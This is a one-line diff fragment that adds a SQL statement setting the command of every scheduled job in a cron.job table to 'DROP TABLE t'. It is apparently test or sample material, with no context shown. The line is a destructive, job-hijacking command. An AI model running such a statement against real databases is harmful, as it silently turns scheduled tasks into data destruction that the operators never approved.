@@ -1,0 +1,1 @@
+UPDATE cron.job SET command = 'DROP TABLE t'
